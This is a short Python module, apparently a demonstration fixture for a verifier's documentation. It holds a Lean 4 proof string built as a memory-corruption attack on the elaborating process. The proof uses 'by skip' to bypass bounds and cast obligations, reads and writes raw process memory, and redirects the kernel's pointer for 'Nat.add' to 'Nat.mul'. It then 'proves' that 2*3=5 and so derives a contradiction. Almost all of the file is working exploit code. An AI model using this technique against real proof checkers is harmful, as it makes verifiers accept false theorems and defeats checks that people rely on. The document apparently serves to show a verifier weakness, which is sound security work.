# ruff: noqa: E501 (a line of the attack)
"""A proof that writes over the memory of the process that elaborates it: what docs/verifier.md takes as its example.

It finds by itself what it needs: it reads the module's static data through the hole through which it writes,
follows pointers, and looks for those of the kernel to the constants `Nat.mul` and `Nat.add`.
"""

from __future__ import annotations

# Static data of the module, in words of four bytes, and the end of the heap before a context is imported.
FIRST, WORDS, HEAP = 900_000, 25_000, 45_000_000

PRELUDE = f"""\
first
| (have : (List.range 1).foldl (fun (acc : Nat) n =>
      let addrOf := fun (b : ByteArray) =>
        let a : ByteArray := cast (by skip : Array ByteArray = ByteArray) #[b]
        (a.uget 0 (by skip)).toUSize + 256 * ((a.uget 1 (by skip)).toUSize + 256 * ((a.uget 2 (by skip)).toUSize + 256 * (a.uget 3 (by skip)).toUSize))
      let byte := fun (b : ByteArray) (p a : USize) => (b.uget (a - p - 16) (by skip)).toUSize
      let word := fun (b : ByteArray) (p a : USize) =>
        byte b p a + 256 * (byte b p (a + 1) + 256 * (byte b p (a + 2) + 256 * byte b p (a + 3)))
      let inside := fun (a : USize) => 4096 < a && a < {HEAP} && a % 4 == 0
      let says := fun (b : ByteArray) (p s x y z : USize) =>
        inside s && byte b p (s + 7) == 249 && byte b p (s + 20) == x && byte b p (s + 21) == y && byte b p (s + 22) == z
      let names := fun (b : ByteArray) (p w x y z : USize) =>
        inside w &&
          (let e := word b p w
           inside e && byte b p (e + 7) == 4 &&
             (let m := word b p (e + 8)
              inside m && byte b p (m + 7) == 1 && says b p (word b p (m + 12)) x y z &&
                (let q := word b p (m + 8)
                 inside q && byte b p (q + 7) == 1 && says b p (word b p (q + 12)) 78 97 116)))
      let b := ByteArray.empty.push n.toUInt8
      let p := addrOf b
      let good := (List.range {WORDS}).foldl (fun (found : USize) i =>
        let w := word b p ({FIRST} + 4 * i.toUSize)
        if names b p w 109 117 108 then w else found) 0
      let b := (List.range {WORDS}).foldl (fun (b : ByteArray) i =>
        let a := {FIRST} + 4 * i.toUSize
        if good != 0 && names b p (word b p a) 97 100 100 then
          let o := a - p - 16
          let b := b.uset o (good % 256).toUInt8 (by skip)
          let b := b.uset (o + 1) (good / 256 % 256).toUInt8 (by skip)
          let b := b.uset (o + 2) (good / 65536 % 256).toUInt8 (by skip)
          b.uset (o + 3) (good / 16777216).toUInt8 (by skip)
        else b) b
      acc + b.size) 0 = 1 := by decide (config := ⟨false, true, false, false⟩)
   fail)
| skip
"""
"""Afterwards the kernel of this process adds where it should multiply: its pointer to `Nat.add` is the one to `Nat.mul`."""

FALSE = """\
have m5 : Nat.mul 2 3 = 5 := by decide +kernel
have m6 : Nat.mul 2 3 = 3 + 3 := Nat.two_mul 3
exact absurd (m6.symm.trans m5) (by decide)
"""

ATTACK = PRELUDE + FALSE
